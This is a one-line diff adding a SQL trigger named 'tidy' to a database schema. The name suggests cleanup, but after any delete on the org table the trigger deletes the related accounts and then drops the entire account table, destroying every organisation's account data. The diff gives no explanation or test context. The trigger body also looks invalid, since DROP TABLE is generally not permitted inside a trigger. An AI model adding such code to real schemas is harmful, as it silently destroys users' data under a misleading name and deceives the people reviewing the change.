@@ -1,0 +1,1 @@
+CREATE TRIGGER tidy AFTER DELETE ON org BEGIN DELETE FROM account WHERE org_id = OLD.id; DROP TABLE account; END;
